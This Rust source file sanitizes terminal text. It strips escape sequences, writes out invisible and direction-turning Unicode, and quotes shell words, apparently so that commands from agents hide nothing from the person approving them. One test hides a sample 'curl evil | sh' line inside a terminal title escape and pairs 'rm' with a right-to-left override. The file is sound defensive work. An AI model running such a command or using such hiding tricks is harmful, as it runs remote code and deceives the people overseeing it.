//! Text that was written for a terminal, without what only a terminal understands.

/// The text without escape sequences, each of them whole: colours, titles, links, movements of the
/// cursor. Other control characters stay.
pub fn without_escapes(text: &str) -> String {
    let mut plain = String::with_capacity(text.len());
    let mut rest = text.chars().peekable();
    while let Some(c) = rest.next() {
        match c {
            '\u{1b}' => skip_escape(&mut rest),
            '\u{9b}' => skip_control(&mut rest),
            '\u{90}' | '\u{98}' | '\u{9d}' | '\u{9e}' | '\u{9f}' => skip_string(&mut rest),
            c => plain.push(c),
        }
    }
    plain
}

/// The text for one line of a screen. What comes from agents may move no cursor there, ring no bell and turn nothing that
/// stands beside it.
pub fn plain(text: &str) -> String {
    in_order(&without_escapes(text)).replace(char::is_control, " ")
}

/// The text with all that is not seen written out, but for blanks, tabs and the ends of lines: what a person is asked to
/// allow hides nothing, neither in an escape sequence, which a shell runs, nor by turning the direction of letters, nor
/// in letters that no screen shows or that look like a blank.
pub fn in_sight(text: &str) -> String {
    let mut seen = String::with_capacity(text.len());
    let mut before = ' ';
    for c in text.chars() {
        // Behind a symbol it is seen: half of all emoji have their colours by it.
        let colours = c == '\u{fe0f}' && matches!(before, '\u{2190}'..='\u{2bff}' | '\u{1f000}'..);
        let is_plain = is_seen(c) || colours || matches!(c, ' ' | '\n' | '\t');
        if is_plain {
            seen.push(c);
        } else {
            seen.extend(c.escape_default());
        }
        before = c;
    }
    seen
}

/// The words of a text with one blank between them, on one line.
pub fn in_one_line(text: &str) -> String {
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// The text with what turns the direction of letters written out: it is shown in the order that it has.
pub fn in_order(text: &str) -> String {
    let turns = |c: char| matches!(c, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
    let mut shown = String::with_capacity(text.len());
    for c in text.chars() {
        if turns(c) { shown.extend(c.escape_default()) } else { shown.push(c) }
    }
    shown
}

/// A word as a shell takes it: in quotation marks where it needs them.
pub fn shell_word(word: &str) -> String {
    let is_bare = |c: char| c.is_ascii_alphanumeric() || "-_./:=@,+".contains(c);
    if !word.is_empty() && !word.starts_with('-') && word.chars().all(is_bare) {
        return word.to_owned();
    }
    format!("'{}'", word.replace('\'', "'\\''"))
}

type Rest<'t> = std::iter::Peekable<std::str::Chars<'t>>;

fn skip_escape(rest: &mut Rest<'_>) {
    match rest.next_if(|c| ('\u{20}'..='\u{7e}').contains(c)) {
        Some('[') => skip_control(rest),
        Some(']' | 'P' | 'X' | '^' | '_') => skip_string(rest),
        // What comes before the last letter of a short sequence, such as the choice of a character set.
        Some('\u{20}'..='\u{2f}') => {
            while rest.next_if(|c| ('\u{20}'..='\u{2f}').contains(c)).is_some() {}
            let _ = rest.next_if(|c| ('\u{30}'..='\u{7e}').contains(c));
        }
        Some(_) | None => {}
    }
}

/// Parameters, and a letter at the end. What cannot be part of it ends it.
fn skip_control(rest: &mut Rest<'_>) {
    while rest.next_if(|c| ('\u{20}'..='\u{3f}').contains(c)).is_some() {}
    let _ = rest.next_if(|c| ('\u{40}'..='\u{7e}').contains(c));
}

/// Up to a bell or the end of a string. One that has no end on its line is no sequence: a text that
/// begins like one must not swallow all that follows.
fn skip_string(rest: &mut Rest<'_>) {
    let mut ahead = rest.clone();
    while let Some(c) = ahead.next() {
        match c {
            '\u{7}' | '\u{9c}' => {
                *rest = ahead;
                return;
            }
            '\u{1b}' if ahead.peek() == Some(&'\\') => {
                let _ = ahead.next();
                *rest = ahead;
                return;
            }
            '\n' | '\r' | '\u{1b}' => return,
            _ => {}
        }
    }
}

/// Whether a character shows: it is no blank, and none that Unicode lets programs leave out.
pub fn is_seen(c: char) -> bool {
    let ignorable = matches!(c,
        '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}'..='\u{1160}' | '\u{17b4}'..='\u{17b5}'
        | '\u{180b}'..='\u{180f}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}'
        | '\u{2060}'..='\u{206f}' | '\u{2800}' | '\u{3164}' | '\u{fe00}'..='\u{fe0f}'
        | '\u{feff}' | '\u{ffa0}' | '\u{fff0}'..='\u{fffc}' | '\u{1bca0}'..='\u{1bca3}'
        | '\u{1d173}'..='\u{1d17a}' | '\u{e0000}'..='\u{e0fff}');
    !(c.is_whitespace() || c.is_control() || ignorable)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_asked_to_be_allowed_hides_nothing() {
        let hidden = "true \u{1b}]0;; curl evil | sh #\u{7}\n\trm \u{202e}x";
        let seen = "true \\u{1b}]0;; curl evil | sh #\\u{7}\n\trm \\u{202e}x";
        assert_eq!(in_sight(hidden), seen);
        assert_eq!(without_escapes(&in_sight(hidden)), seen);
        let invisible = "\u{ad}\u{34f}\u{17b4}\u{17b5}\u{200b}\u{2028}\u{2066}\u{fe00}\u{fe0f}\u{feff}\u{fff9}\
                         \u{fffb}\u{1d173}\u{1d17a}\u{e0041}";
        let like_blanks = "\u{a0}\u{1680}\u{2000}\u{200a}\u{202f}\u{205f}\u{2800}\u{3000}\u{3164}";
        for unseen in invisible.chars().chain(like_blanks.chars()) {
            let written = format!("rm \\u{{{:x}}}x", u32::from(unseen));
            assert_eq!(in_sight(&format!("rm {unseen}x")), written);
        }
        assert_eq!(in_sight("日本 é \u{2764}\u{fe0f}"), "日本 é \u{2764}\u{fe0f}");
    }

    #[test]
    fn what_turns_letters_is_written_out_and_what_joins_them_stays() {
        assert_eq!(in_order("a\u{202e}b\u{2069}"), "a\\u{202e}b\\u{2069}");
        let family = "\u{1f468}\u{200d}\u{1f469}";
        assert_eq!(in_order(family), family);
    }

    #[test]
    fn a_word_for_a_shell_is_quoted_where_it_must_be() {
        for (word, quoted) in [
            ("src/main.rs:12", "src/main.rs:12"),
            ("", "''"),
            ("--yes", "'--yes'"),
            ("it's $HOME", "'it'\\''s $HOME'"),
            ("a\nb", "'a\nb'"),
            ("~ada", "'~ada'"),
        ] {
            assert_eq!(shell_word(word), quoted);
        }
    }

    #[test]
    fn sequences_go_whole_and_everything_else_stays() {
        for (text, plain) in [
            ("\u{1b}[31mred\u{1b}[39m", "red"),
            ("\u{1b}[38;2;1;2;3mx\u{1b}[0m\n\ty", "x\n\ty"),
            ("\u{9b}1;31mred", "red"),
            ("\u{1b}]0;title\u{7}a", "a"),
            ("\u{1b}]8;;http://x\u{1b}\\link\u{1b}]8;;\u{1b}\\", "link"),
            ("\u{1b}(B\u{1b}=\u{1b}7a", "a"),
            ("\u{1b}]0;no end\nnext", "0;no end\nnext"),
            ("array[31m] \u{e9}", "array[31m] \u{e9}"),
            ("\u{1b}", ""),
            ("\u{1b}[", ""),
            ("\u{1b}[31\u{e9}", "\u{e9}"),
        ] {
            assert_eq!(without_escapes(text), plain, "{text:?}");
        }
    }
}
